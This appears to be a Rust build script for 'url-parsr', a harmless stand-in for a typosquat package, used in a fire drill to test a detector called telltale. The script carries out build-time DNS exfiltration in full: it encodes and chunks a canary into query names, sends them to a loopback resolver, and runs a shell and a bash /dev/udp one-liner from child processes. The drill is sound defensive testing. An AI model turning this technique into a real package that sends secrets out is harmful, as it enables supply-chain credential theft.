//! Build script of `url-parsr`, the fire drill's harmless stand-in for a typosquat payload.
//!
//! Query layout (what the drill's DNS server receives; `cli/src/drill/canary.ts` decodes it):
//!
//! ```text
//! <seq>-<total>.<data>[.<data>...].<TELLTALE_DRILL_DOMAIN>
//! ```
//!
//! - The canary's bytes are encoded as one string (base32: RFC 4648 lowercase, no padding;
//!   base64url: no padding, case kept; hex: lowercase), then cut into chunks, one per query.
//! - `<seq>-<total>`: the first label of EVERY query (a single query too: `0-1`). Decimal,
//!   no leading zeros: the chunk's index from 0, and how many chunks the leak has. A reader
//!   needs no knowledge of the chunk mode, and can tell a complete leak from a partial one.
//! - `<data>`: the chunk, cut into labels of at most 63 characters (N with `labels:N`).
//! - Every name is at most 253 characters (255 bytes on the wire).
//! - To rebuild: keep names under the domain, one per seq, check that 0..total-1 are all
//!   there, join the data labels in seq order (no dots), decode.
//!
//! Chunk modes: `one` (default) 63-char labels, as much as fits in one name (a canary of up
//! to ~100 bytes is one query; longer spills into as few queries as fit); `labels:N` N-char
//! labels, as many as fit per name; `queries:N` N data characters per query (at most what
//! fits one name), one query per chunk.
//!
//! Harmless by construction: reads no variable but OUT_DIR and TELLTALE_DRILL_*, leaks only
//! TELLTALE_DRILL_CANARY, sends only to the literal ip:port in TELLTALE_DRILL_DNS (never the
//! system resolver; unset means nothing is sent). The build succeeds whatever happens on the
//! network. What it sent goes to stderr (cargo keeps it in
//! `$CARGO_TARGET_DIR/debug/build/url-parsr-<hash>/stderr`).

use std::collections::hash_map::RandomState;
use std::env;
use std::fs;
use std::hash::{BuildHasher, Hasher};
use std::net::{SocketAddr, UdpSocket};
use std::path::Path;
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

const VARS: [&str; 9] = [
    "TELLTALE_DRILL_CANARY",
    "TELLTALE_DRILL_DNS",
    "TELLTALE_DRILL_DOMAIN",
    "TELLTALE_DRILL_ENCODING",
    "TELLTALE_DRILL_CHUNK",
    "TELLTALE_DRILL_PACE_MS",
    "TELLTALE_DRILL_QTYPE",
    "TELLTALE_DRILL_CHANNEL",
    "TELLTALE_DRILL_SPAWN",
];
const DEFAULT_DOMAIN: &str = "drill.telltale.test";
const MAX_LABEL: usize = 63;
/// Longest name in presentation form without the trailing dot (255 wire bytes).
const MAX_NAME: usize = 253;
const MAX_CANARY: usize = 256;
const MAX_PACE_MS: u64 = 3_600_000;
const REPLY_WAIT: Duration = Duration::from_millis(500);

#[derive(Clone, Copy)]
enum Encoding {
    Base32,
    Base64Url,
    Hex,
}

#[derive(Clone, Copy)]
enum Chunk {
    One,
    Labels(usize),
    Queries(usize),
}

#[derive(Clone, Copy, PartialEq)]
enum Channel {
    BuildScript,
    Tool,
}

struct Plan {
    target: Option<SocketAddr>,
    domain: String,
    encoding: Encoding,
    chunk: Chunk,
    pace: Duration,
    qtype: (u16, &'static str),
    channel: Channel,
    spawn: bool,
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    for var in VARS {
        println!("cargo:rerun-if-env-changed={var}");
    }

    // Benign part: generate a file into OUT_DIR, as many build scripts do.
    let out_dir = env::var_os("OUT_DIR").expect("OUT_DIR is set by cargo");
    let out_dir = Path::new(&out_dir);
    let version = env!("CARGO_PKG_VERSION");
    fs::write(
        out_dir.join("version.rs"),
        format!("pub const URL_PARSR_VERSION: &str = {version:?};\n"),
    )
    .expect("write OUT_DIR/version.rs");

    let canary = match env::var("TELLTALE_DRILL_CANARY") {
        Ok(c) if !c.is_empty() => c,
        _ => return, // a clean build: nothing spawned, nothing sent
    };
    if canary.len() > MAX_CANARY || !canary.bytes().all(|b| (0x20..0x7f).contains(&b)) {
        eprintln!("url-parsr: TELLTALE_DRILL_CANARY must be printable ASCII, at most {MAX_CANARY} bytes; nothing sent");
        return;
    }
    let plan = read_plan();
    if plan.spawn {
        spawn_tool(out_dir);
    }
    leak(&canary, &plan);
}

/// Reads the drill's variables; a bad value is reported and replaced by its default.
fn read_plan() -> Plan {
    let var = |name: &str| env::var(name).ok().filter(|v| !v.is_empty());
    let target = match var("TELLTALE_DRILL_DNS") {
        None => None,
        Some(v) => match v.parse::<SocketAddr>() {
            // Loopback only: the canary never leaves this host, whoever sets the variable.
            Ok(a) if a.ip().is_loopback() => Some(a),
            Ok(a) => {
                eprintln!("url-parsr: TELLTALE_DRILL_DNS={a} is not a loopback address; nothing will be sent");
                None
            }
            Err(_) => {
                eprintln!(
                    "url-parsr: TELLTALE_DRILL_DNS={v:?} is not ip:port; nothing will be sent"
                );
                None
            }
        },
    };
    let domain = match var("TELLTALE_DRILL_DOMAIN") {
        None => DEFAULT_DOMAIN.to_string(),
        Some(v) => {
            let d = v.trim_end_matches('.').to_string();
            if valid_domain(&d) {
                d
            } else {
                eprintln!("url-parsr: TELLTALE_DRILL_DOMAIN={v:?} is not a domain name; using {DEFAULT_DOMAIN}");
                DEFAULT_DOMAIN.to_string()
            }
        }
    };
    let encoding = match var("TELLTALE_DRILL_ENCODING").as_deref() {
        None | Some("base32") => Encoding::Base32,
        Some("base64url") => Encoding::Base64Url,
        Some("hex") => Encoding::Hex,
        Some(v) => {
            eprintln!("url-parsr: TELLTALE_DRILL_ENCODING={v:?} unknown; using base32");
            Encoding::Base32
        }
    };
    let chunk = match var("TELLTALE_DRILL_CHUNK") {
        None => Chunk::One,
        Some(v) => parse_chunk(&v).unwrap_or_else(|| {
            eprintln!("url-parsr: TELLTALE_DRILL_CHUNK={v:?} is not one, labels:1..63 or queries:N; using one");
            Chunk::One
        }),
    };
    let pace_ms = match var("TELLTALE_DRILL_PACE_MS") {
        None => 0,
        Some(v) => match v.parse::<u64>() {
            Ok(n) if n <= MAX_PACE_MS => n,
            _ => {
                eprintln!(
                    "url-parsr: TELLTALE_DRILL_PACE_MS={v:?} is not 0..{MAX_PACE_MS}; using 0"
                );
                0
            }
        },
    };
    let qtype = match var("TELLTALE_DRILL_QTYPE").as_deref() {
        None | Some("A") => (1, "A"),
        Some("TXT") => (16, "TXT"),
        Some(v) => {
            eprintln!("url-parsr: TELLTALE_DRILL_QTYPE={v:?} unknown; using A");
            (1, "A")
        }
    };
    let channel = match var("TELLTALE_DRILL_CHANNEL").as_deref() {
        None | Some("build-script") => Channel::BuildScript,
        Some("tool") => Channel::Tool,
        Some(v) => {
            eprintln!("url-parsr: TELLTALE_DRILL_CHANNEL={v:?} unknown; using build-script");
            Channel::BuildScript
        }
    };
    let spawn = var("TELLTALE_DRILL_SPAWN").as_deref() != Some("0");
    Plan {
        target,
        domain,
        encoding,
        chunk,
        pace: Duration::from_millis(pace_ms),
        qtype,
        channel,
        spawn,
    }
}

fn parse_chunk(v: &str) -> Option<Chunk> {
    if v == "one" {
        return Some(Chunk::One);
    }
    let (mode, n) = v.split_once(':')?;
    let n: usize = n.parse().ok()?;
    match mode {
        "labels" if (1..=MAX_LABEL).contains(&n) => Some(Chunk::Labels(n)),
        "queries" if n >= 1 => Some(Chunk::Queries(n)),
        _ => None,
    }
}

fn valid_domain(d: &str) -> bool {
    d.len() <= 200
        && d.split('.').all(|l| {
            !l.is_empty()
                && l.len() <= MAX_LABEL
                && l.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
}

/// Runs a shell pipeline, as some build scripts do for "encoding" steps: telltale's
/// unexpected_tool detector should notice a shell and base64 under a build script.
fn spawn_tool(out_dir: &Path) {
    match Command::new("sh")
        .arg("-c")
        .arg("echo telltale-drill-spawn | base64")
        .output()
    {
        Ok(out) => {
            eprintln!(
                "url-parsr: spawned sh -c 'echo telltale-drill-spawn | base64' (status {}), stdout {:?}",
                out.status,
                String::from_utf8_lossy(&out.stdout).trim()
            );
            let _ = fs::write(out_dir.join("spawn.txt"), &out.stdout);
        }
        Err(e) => eprintln!("url-parsr: spawn failed: {e}"),
    }
}

fn leak(canary: &str, plan: &Plan) {
    let Some(target) = plan.target else {
        // Deliberately no fallback to the system resolver.
        eprintln!("url-parsr: no usable TELLTALE_DRILL_DNS; nothing sent");
        return;
    };
    let encoded = encode(plan.encoding, canary.as_bytes());
    let names = match query_names(&encoded, &plan.domain, plan.chunk) {
        Some(n) => n,
        None => {
            eprintln!(
                "url-parsr: domain {:?} leaves no room for data; nothing sent",
                plan.domain
            );
            return;
        }
    };
    eprintln!(
        "url-parsr: leaking in {} queries (encoding {}, chunk {}, qtype {}, channel {}, pace {} ms) to {target}",
        names.len(),
        match plan.encoding {
            Encoding::Base32 => "base32",
            Encoding::Base64Url => "base64url",
            Encoding::Hex => "hex",
        },
        match plan.chunk {
            Chunk::One => "one".to_string(),
            Chunk::Labels(n) => format!("labels:{n}"),
            Chunk::Queries(n) => format!("queries:{n}"),
        },
        plan.qtype.1,
        if plan.channel == Channel::Tool { "tool" } else { "build-script" },
        plan.pace.as_millis()
    );
    for (i, name) in names.iter().enumerate() {
        if i > 0 && !plan.pace.is_zero() {
            thread::sleep(plan.pace);
        }
        let id = random_u16();
        let packet = build_query(id, name, plan.qtype.0);
        let outcome = match plan.channel {
            Channel::BuildScript => match send_and_wait(target, &packet, id) {
                Ok(true) => "reply".to_string(),
                Ok(false) => "no reply within 500 ms".to_string(),
                Err(e) => format!("send failed: {e}"),
            },
            Channel::Tool => send_with_bash(target, &packet),
        };
        eprintln!(
            "url-parsr: query {}/{} {name} {}: {outcome}",
            i + 1,
            names.len(),
            plan.qtype.1
        );
    }
}

/// The names to query, in order, per the layout at the top of this file; None when the
/// domain leaves no room for data.
fn query_names(encoded: &str, domain: &str, chunk: Chunk) -> Option<Vec<String>> {
    let label_len = match chunk {
        Chunk::Labels(n) => n,
        _ => MAX_LABEL,
    };
    // The seq label's width depends on the chunk count, which depends on the room left
    // beside the seq label: grow the reserve until it holds.
    let mut seq_reserve = 3; // "0-1"
    loop {
        let room = data_room(domain.len(), seq_reserve, label_len);
        if room == 0 {
            return None;
        }
        let per_query = match chunk {
            Chunk::Queries(n) => n.min(room),
            _ => room,
        };
        let chunks: Vec<&str> = split_ascii(encoded, per_query);
        let total = chunks.len();
        let widest = format!("{}-{}", total - 1, total).len();
        if widest > seq_reserve {
            seq_reserve = widest;
            continue;
        }
        let names = chunks
            .iter()
            .enumerate()
            .map(|(seq, data)| {
                let labels = split_ascii(data, label_len).join(".");
                format!("{seq}-{total}.{labels}.{domain}")
            })
            .collect();
        return Some(names);
    }
}

/// Data characters that fit one name beside the seq label and the domain, in labels of
/// at most `label_len` characters (each label costs its length plus one dot).
fn data_room(domain_len: usize, seq_len: usize, label_len: usize) -> usize {
    let Some(avail) = MAX_NAME.checked_sub(domain_len + seq_len + 1) else {
        return 0;
    };
    let full = avail / (label_len + 1);
    let rest = avail % (label_len + 1);
    full * label_len + rest.saturating_sub(1)
}

/// Splits ASCII text into pieces of at most `n` characters.
fn split_ascii(s: &str, n: usize) -> Vec<&str> {
    s.as_bytes()
        .chunks(n)
        .map(|c| std::str::from_utf8(c).expect("encoded text is ASCII"))
        .collect()
}

fn encode(encoding: Encoding, data: &[u8]) -> String {
    match encoding {
        Encoding::Base32 => base_n(data, 5, b"abcdefghijklmnopqrstuvwxyz234567"),
        Encoding::Base64Url => base_n(
            data,
            6,
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
        ),
        Encoding::Hex => data.iter().map(|b| format!("{b:02x}")).collect(),
    }
}

/// RFC 4648 base32 / base64url without padding: `bits` bits per output character.
fn base_n(data: &[u8], bits: u32, alphabet: &[u8]) -> String {
    let mut out = String::with_capacity((data.len() * 8).div_ceil(bits as usize));
    let mask = (1u32 << bits) - 1;
    let mut buffer: u32 = 0;
    let mut held: u32 = 0;
    for &byte in data {
        buffer = (buffer << 8) | u32::from(byte);
        held += 8;
        while held >= bits {
            held -= bits;
            out.push(alphabet[((buffer >> held) & mask) as usize] as char);
        }
        buffer &= (1 << held) - 1;
    }
    if held > 0 {
        out.push(alphabet[((buffer << (bits - held)) & mask) as usize] as char);
    }
    out
}

/// A fresh random 16-bit value: std's RandomState is seeded from the OS once per thread,
/// and each new one differs; the clock is mixed in for good measure.
fn random_u16() -> u16 {
    let mut h = RandomState::new().build_hasher();
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0);
    h.write_u128(nanos);
    h.write_u32(std::process::id());
    (h.finish() & 0xffff) as u16
}

/// A standard query: header (RD set, QDCOUNT=1), one question, the given QTYPE, QCLASS IN.
fn build_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut p = Vec::with_capacity(12 + name.len() + 2 + 4);
    p.extend_from_slice(&id.to_be_bytes());
    p.extend_from_slice(&0x0100u16.to_be_bytes()); // QR=0, OPCODE=0, RD=1
    p.extend_from_slice(&1u16.to_be_bytes()); // QDCOUNT
    p.extend_from_slice(&[0; 6]); // ANCOUNT, NSCOUNT, ARCOUNT
    for label in name.split('.') {
        p.push(label.len() as u8);
        p.extend_from_slice(label.as_bytes());
    }
    p.push(0);
    p.extend_from_slice(&qtype.to_be_bytes());
    p.extend_from_slice(&1u16.to_be_bytes()); // QCLASS IN
    p
}

/// Sends the packet once from a fresh socket; waits up to 500 ms for a reply with our ID.
fn send_and_wait(target: SocketAddr, packet: &[u8], id: u16) -> std::io::Result<bool> {
    let bind: SocketAddr = if target.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    }
    .parse()
    .expect("literal");
    let socket = UdpSocket::bind(bind)?;
    socket.send_to(packet, target)?;
    let deadline = Instant::now() + REPLY_WAIT;
    let mut buf = [0u8; 1500];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Ok(false);
        }
        socket.set_read_timeout(Some(left))?;
        match socket.recv_from(&mut buf) {
            Ok((n, from)) if from == target && n >= 12 && buf[0..2] == id.to_be_bytes() => {
                return Ok(true)
            }
            Ok(_) => continue, // stray datagram; keep waiting
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return Ok(false)
            }
            // e.g. ECONNREFUSED surfaced from an ICMP port-unreachable
            Err(e) => return Err(e),
        }
    }
}

/// The `tool` channel: bash writes the packet to its /dev/udp pseudo-device, so the
/// datagram leaves from a child process. Every byte is an octal escape, so the script
/// holds only `\0NNN` inside its quotes. bash closes the socket at once: no reply is read.
fn send_with_bash(target: SocketAddr, packet: &[u8]) -> String {
    let escaped: String = packet.iter().map(|b| format!("\\0{b:03o}")).collect();
    let script = format!(
        "printf \"%b\" \"{escaped}\" > /dev/udp/{}/{}",
        target.ip(),
        target.port()
    );
    match Command::new("bash").arg("-c").arg(&script).status() {
        Ok(s) if s.success() => "sent by bash /dev/udp (no reply read)".to_string(),
        Ok(s) => format!("bash exited with {s}"),
        Err(e) => format!("could not run bash: {e}"),
    }
}
